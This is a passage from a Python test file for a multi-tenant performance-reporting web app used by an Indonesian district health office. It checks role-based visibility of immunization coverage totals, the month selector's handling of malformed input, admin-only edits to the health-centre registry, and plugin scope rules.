    """Each reader sees what they may see, and the page says which: the staff member their own
    reports, the superior their unit (they and the one person they lead), the admin the whole
    agency; for each, the page's totals are the monthly summary's, never above 100%."""
    app, client = health
    give_position(tenants.a, people.peer, "pelaksana")
    sent = {
        "staff": {**REPORT, "sasaran": 20, "diimunisasi": 18},
        "peer": {**REPORT, "puskesmas": "Puskesmas Teladan", "sasaran": 10, "diimunisasi": 9},
    }
    for login, body in sent.items():
        answer = client.post(
            f"{LHI}/submissions", headers=token(tenants.a, people.users[login]), json=body
        )
        assert answer.status_code == 201, answer.get_json()
    month = clock.this_month().strftime("%Y-%m")
    expected = {
        "staff": ("own", (20, 18)),
        "boss": ("unit", (20, 18)),
        "admin": ("agency", (30, 27)),
    }
    for login, (kind, totals) in expected.items():
        browser = app.test_client()
        sign_in(browser, login)
        html = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
        assert f'data-scope="{kind}"' in html, login
        role = "admin_opd" if login == "admin" else "pegawai"
        reader = token(tenants.a, people.users[login], role)
        assert page_totals(html) == summary_totals(client, reader, month) == totals, login
        assert totals[1] <= totals[0]  # coverage never above 100%
    browser = app.test_client()
    sign_in(browser, "boss")
    html = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "laporan Anda dan 1 pegawai yang Anda pimpin" in html
    assert "puskesmas terdaftar sudah melapor" not in html  # only who sees the whole agency
    sign_in(browser, "admin")
    html = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "seluruh Dinas Kesehatan" in html
    assert "2 dari 2 puskesmas terdaftar sudah melapor." in html
    register(tenants.a, "Puskesmas Glugur Kota")
    html = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "2 dari 3 puskesmas terdaftar sudah melapor." in html
    assert "Puskesmas Glugur Kota" in html.split("belum melapor")[1]


def test_coverage_of_another_month_is_chosen_with_the_month_and_year_selector(
    health, people, tenants
) -> None:
    app, client = health
    staff = token(tenants.a, people.users["staff"])
    last_day = clock.this_month() - timedelta(days=1)  # the last day of the previous month
    earlier = {**REPORT, "report_date": last_day.isoformat(), "sasaran": 30, "diimunisasi": 24}
    assert client.post(f"{LHI}/submissions", headers=staff, json=earlier).status_code == 201
    assert client.post(f"{LHI}/submissions", headers=staff, json=REPORT).status_code == 201
    browser = app.test_client()
    sign_in(browser, "staff")
    now = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert page_totals(now) == (20, 18)
    chosen = f"/t/dinkes/p/kinerja-dinkes/cakupan?month={last_day.month}&year={last_day.year}"
    then = browser.get(chosen).get_data(as_text=True)
    assert page_totals(then) == (30, 24) == summary_totals(client, staff, f"{last_day:%Y-%m}")
    assert f'<option value="{last_day.month}" selected>' in then
    assert f"<option selected>{last_day.year}</option>" in then
    linked = browser.get(f"/t/dinkes/p/kinerja-dinkes/cakupan?month={last_day:%Y-%m}")
    assert page_totals(linked.get_data(as_text=True)) == (30, 24)
    for nonsense in ("13&year=2026", "abc", "9999-12", "1&year=x"):
        shown = browser.get(f"/t/dinkes/p/kinerja-dinkes/cakupan?month={nonsense}")
        assert shown.status_code == 200 and page_totals(shown.get_data(as_text=True)) == (20, 18)


def test_the_agencys_admin_fills_in_the_registry_the_form_chooses_from(health, people) -> None:
    app, _client = health
    admin = app.test_client()
    sign_in(admin, "admin")
    url = "/t/dinkes/p/kinerja-dinkes/puskesmas"
    form = {"code": "GS", "name": "Puskesmas Glugur Kota", "kecamatan": "Medan Barat"}
    form["csrf_token"] = csrf_token(admin, url)
    assert admin.post(url, data=form).status_code == 303
    again = admin.post(url, data={**form, "code": "GS2", "name": "puskesmas glugur kota"})
    assert again.status_code == 422
    field = again.get_data(as_text=True).split('id="p-name"')[1].split("<label")[0]
    assert "Nama ini sudah terdaftar." in field
    empty = admin.post(url, data={**form, "code": "", "name": "Puskesmas Baru"})
    assert empty.status_code == 422 and "Wajib diisi." in empty.get_data(as_text=True)
    staff = app.test_client()
    sign_in(staff, "staff")
    page = staff.get(url).get_data(as_text=True)
    assert "Puskesmas Glugur Kota" in page and 'id="p-name"' not in page  # read, not added to
    token_value = csrf_token(staff, url)
    refused = staff.post(url, data={**form, "code": "X", "name": "X", "csrf_token": token_value})
    assert refused.status_code == 403
    chosen = staff.get("/t/dinkes/reports/LHI/new").get_data(as_text=True)
    assert (
        "<option >Puskesmas Glugur Kota</option>" in chosen and "<option >X</option>" not in chosen
    )


def test_the_scope_a_plugin_reads_follows_the_reports_rule(app, people, tenants) -> None:
    """`api.scope()` (through `for_plugins.scope`): the system sees the agency, a superior their
    unit (they and whom they lead), a member with no employee record nobody's reports."""
    from kinerja.permissions import Principal
    from kinerja.plugins.types import Scope
    from kinerja.reports import for_plugins

    assert for_plugins.scope(tenants.a, None) == Scope("agency", "Dinas Kesehatan")
    member = Principal(
        user_id=people.users["staff"], tenant_id=tenants.a, roles=frozenset({"pegawai"})
    )
    assert for_plugins.scope(tenants.a, member) == Scope("none")
    boss = Principal(
        user_id=people.users["boss"],
        tenant_id=tenants.a,
        roles=frozenset({"pegawai"}),
        employee_id=people.superior,
        subordinate_ids=frozenset({people.staff}),
    )
    found = for_plugins.scope(tenants.a, boss)
    assert (found.kind, found.people) == ("unit", 2)
    alone = Principal(
        user_id=people.users["peer"],
        tenant_id=tenants.a,
        roles=frozenset({"pegawai"}),
        employee_id=people.peer,
    )
    assert for_plugins.scope(tenants.a, alone) == Scope("own", "Rekan", 1)
